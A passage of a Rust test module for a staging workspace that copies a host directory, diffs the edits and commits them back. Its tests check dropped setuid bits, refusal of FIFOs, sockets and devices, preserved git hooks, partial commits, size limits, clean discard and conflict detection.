        let report = commit_all(&mut ws, &["tool", "group-tool"]);
        assert_eq!(report.dropped_bits.len(), 2, "{report:?}");
        assert_eq!(mode_of(&fx.grant.join("tool")), 0o755);
        assert_eq!(mode_of(&fx.grant.join("group-tool")), 0o755);
        assert_eq!(
            mode_of(&fx.grant.join("suid")),
            0o4755,
            "untouched host file kept"
        );
    }

    #[test]
    fn device_or_fifo_is_never_committed() {
        let fx = Fixture::new();
        fx.host("a.txt", b"a");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            fx.grant.join("host-fifo"),
            FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )
        .expect("mkfifo");
        let mut ws = fx.stage(LIMIT);
        assert_eq!(ws.skipped().len(), 1, "the host's FIFO is not staged");
        assert!(ws.diff().expect("diff").is_empty(), "nor shown as deleted");
        let mkfifo = |name: &str| {
            rustix::fs::mknodat(
                rustix::fs::CWD,
                ws.path().join(name),
                FileType::Fifo,
                Mode::from_raw_mode(0o644),
                0,
            )
        };
        mkfifo("pipe").expect("mkfifo");
        let _socket = std::os::unix::net::UnixListener::bind(ws.path().join("sock")).expect("bind");
        let mut special = vec!["pipe", "sock"];
        // Devices need CAP_MKNOD (root); an unprivileged run cannot make one either.
        let dev = rustix::fs::mknodat(
            rustix::fs::CWD,
            ws.path().join("null"),
            FileType::CharacterDevice,
            Mode::from_raw_mode(0o666),
            rustix::fs::makedev(1, 3),
        );
        if dev.is_ok() {
            special.push("null");
        }
        let report = commit_all(&mut ws, &special);
        assert!(report.applied.is_empty());
        for path in &special {
            assert_eq!(refusal(&report, path), Some(&Refusal::Special), "{path}");
            assert!(fs::symlink_metadata(fx.grant.join(path)).is_err(), "{path}");
        }
    }

    #[test]
    fn deletions_and_changes_are_applied_exactly() {
        let fx = Fixture::new();
        fx.host("a.txt", b"alpha")
            .host("dir/b.txt", b"beta")
            .host("dir/sub/c.txt", b"gamma")
            .host("gone/deep/x", b"x")
            .host("t", b"a file that becomes a directory")
            .host("d/inner", b"a directory that becomes a file");
        chmod(&fx.grant.join("dir/sub"), 0o750);
        let mut ws = fx.stage(LIMIT);
        assert_eq!(snapshot(ws.path()), snapshot(&fx.grant), "staged exactly");
        let root = ws.path().to_path_buf();
        write(&root, "a.txt", b"alpha, edited");
        chmod(&root.join("dir/b.txt"), 0o600);
        fs::remove_dir_all(root.join("dir/sub")).expect("rm");
        fs::remove_dir_all(root.join("gone")).expect("rm");
        fs::remove_file(root.join("t")).expect("rm");
        write(&root, "t/y", b"now beneath");
        fs::remove_dir_all(root.join("d")).expect("rm");
        write(&root, "d", b"now a file");
        write(&root, "new/ro/file", b"in a read-only directory");
        chmod(&root.join("new/ro"), 0o555);

        let diff = ws.diff().expect("diff");
        let kinds: BTreeMap<String, ChangeKind> = diff
            .changes
            .iter()
            .map(|c| (c.path.display().to_string(), c.kind))
            .collect();
        assert_eq!(kinds.get("a.txt"), Some(&ChangeKind::Changed));
        assert_eq!(kinds.get("dir/b.txt"), Some(&ChangeKind::Changed));
        assert_eq!(kinds.get("gone/deep/x"), Some(&ChangeKind::Deleted));
        assert_eq!(kinds.get("t"), Some(&ChangeKind::Changed));
        assert!(
            !kinds.contains_key("dir"),
            "a directory's own time is not a change"
        );

        let report = commit_all(&mut ws, &[]);
        assert!(report.is_complete(), "{report:?}");
        assert_eq!(
            snapshot(&fx.grant),
            snapshot(ws.path()),
            "the host is the staged tree"
        );
        assert!(
            ws.diff().expect("diff").is_empty(),
            "committed paths are the new baseline"
        );
    }

    #[test]
    fn deleting_a_directory_never_removes_what_was_refused_beneath_it() {
        let fx = Fixture::new();
        fx.host(".git/hooks/pre-push", b"#!/bin/sh\nrun-tests\n")
            .host(".git/objects/ab/cd", b"blob");
        let mut ws = fx.stage(LIMIT);
        fs::remove_dir_all(ws.path().join(".git")).expect("rm -rf .git");
        let report = commit_all(&mut ws, &[]);
        assert!(matches!(
            refusal(&report, ".git/hooks/pre-push"),
            Some(Refusal::NotAccepted { .. })
        ));
        assert!(
            matches!(refusal(&report, ".git"), Some(Refusal::Failed { detail }) if detail.contains("not empty"))
        );
        assert!(report
            .applied
            .contains(&PathBuf::from(".git/objects/ab/cd")));
        assert!(
            fx.grant.join(".git/hooks/pre-push").exists(),
            "the hook survives"
        );
        assert!(!fx.grant.join(".git/objects").exists());
    }

    #[test]
    fn partial_commit_applies_only_the_selected_paths() {
        let fx = Fixture::new();
        fx.host("a.txt", b"a")
            .host("b.txt", b"b")
            .host("src/c.txt", b"c");
        let mut ws = fx.stage(LIMIT);
        for rel in ["a.txt", "b.txt", "src/c.txt", "src/new.txt"] {
            write(ws.path(), rel, b"edited");
        }
        let selection = Selection::Paths(vec!["a.txt".into(), "src".into()]);
        let report = ws
            .commit(&selection, &[], CommitMode::SkipRefused)
            .expect("commit");
        assert_eq!(report.applied.len(), 3, "{report:?}");
        assert_eq!(report.unselected, 1);
        for rel in ["a.txt", "src/c.txt", "src/new.txt"] {
            assert_eq!(
                fs::read(fx.grant.join(rel)).expect("read"),
                b"edited",
                "{rel}"
            );
        }
        assert_eq!(fs::read(fx.grant.join("b.txt")).expect("read"), b"b");
        let left: Vec<PathBuf> = ws
            .diff()
            .expect("diff")
            .changes
            .into_iter()
            .map(|c| c.path)
            .collect();
        assert_eq!(left, [PathBuf::from("b.txt")]);
    }

    #[test]
    fn over_limit_diff_cannot_be_committed() {
        let fx = Fixture::new();
        fx.host("small", b"s");
        let mut ws = fx.stage(ByteSize::kib(1));
        write(ws.path(), "big", &[7u8; 4096]);
        let diff = ws.diff().expect("diff");
        assert_eq!(diff.upper_bytes, 4096);
        assert!(diff.over_limit && diff.limit == 1024);
        let err = ws
            .commit(
                &Selection::Paths(vec!["big".into()]),
                &[],
                CommitMode::SkipRefused,
            )
            .expect_err("over the limit");
        assert_eq!(err.kind(), ErrorKind::LimitExceeded);
        assert!(!fx.grant.join("big").exists());
        // Deleting frees nothing the commit would write: back under the limit, it commits.
        fs::remove_file(ws.path().join("big")).expect("rm");
        write(ws.path(), "fits", &[7u8; 1024]);
        assert!(commit_all(&mut ws, &[]).is_complete());
    }

    #[test]
    fn discard_leaves_nothing_behind() {
        let fx = Fixture::new();
        fx.host("a.txt", b"a").host("dir/b.txt", b"b");
        for drop_it in [false, true] {
            let ws = fx.stage(LIMIT);
            let staged = ws.path().to_path_buf();
            assert!(staged.starts_with(&fx.tmp));
            let base = staged.parent().expect("base");
            assert_eq!(mode_of(base), 0o700, "private");
            assert!(base
                .file_name()
                .expect("name")
                .to_string_lossy()
                .starts_with("strata-ws-"));
            write(&staged, "x/y/z", b"z");
            chmod(&staged.join("x/y"), 0o500);
            chmod(&staged.join("x"), 0o000);
            chmod(&staged.join("dir"), 0o555);
            symlink("/", staged.join("root-link")).expect("symlink");
            if drop_it {
                drop(ws);
            } else {
                ws.discard().expect("discard");
            }
            assert_eq!(
                fs::read_dir(&fx.tmp).expect("ls").count(),
                0,
                "drop: {drop_it}"
            );
        }
        assert_eq!(
            fs::read(fx.grant.join("a.txt")).expect("read"),
            b"a",
            "host untouched"
        );
    }

    #[test]
    fn binary_files_with_nul_bytes_round_trip() {
        let fx = Fixture::new();
        let all: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
        fx.host("bin/host.dat", &all);
        let mut ws = fx.stage(LIMIT);
        assert_eq!(fs::read(ws.path().join("bin/host.dat")).expect("read"), all);
        let mut edited = all.clone();
        edited[100] = 0;
        edited.extend_from_slice(&[0, 0, 0]);
        write(ws.path(), "bin/host.dat", &edited);
        write(ws.path(), "bin/new.dat", b"\0\0\x01\0");
        assert!(commit_all(&mut ws, &[]).is_complete());
        assert_eq!(
            fs::read(fx.grant.join("bin/host.dat")).expect("read"),
            edited
        );
        assert_eq!(
            fs::read(fx.grant.join("bin/new.dat")).expect("read"),
            b"\0\0\x01\0"
        );
    }

    #[test]
    fn concurrent_host_change_is_a_conflict() {
        let fx = Fixture::new();
        fx.host("a.txt", b"original")
            .host("b.txt", b"b")
            .host("c.txt", b"c");
        let mut ws = fx.stage(LIMIT);
        write(ws.path(), "a.txt", b"from run");
        write(ws.path(), "b.txt", b"from run");
        write(ws.path(), "new.txt", b"from run");
        fs::remove_file(ws.path().join("c.txt")).expect("rm");
        // Meanwhile on the host: same length, other bytes; a new file; c.txt edited.
        fx.host("a.txt", b"ORIGINAL")
            .host("new.txt", b"from host")
            .host("c.txt", b"C");

        let report = commit_all(&mut ws, &[]);
        assert_eq!(report.applied, [PathBuf::from("b.txt")]);
        for path in ["a.txt", "new.txt", "c.txt"] {
            assert!(
                matches!(refusal(&report, path), Some(Refusal::Conflict { .. })),
                "{path}"
            );
        }
        assert_eq!(fs::read(fx.grant.join("a.txt")).expect("read"), b"ORIGINAL");
        assert_eq!(
            fs::read(fx.grant.join("new.txt")).expect("read"),
            b"from host"
        );
        assert_eq!(fs::read(fx.grant.join("c.txt")).expect("read"), b"C");
    }
}
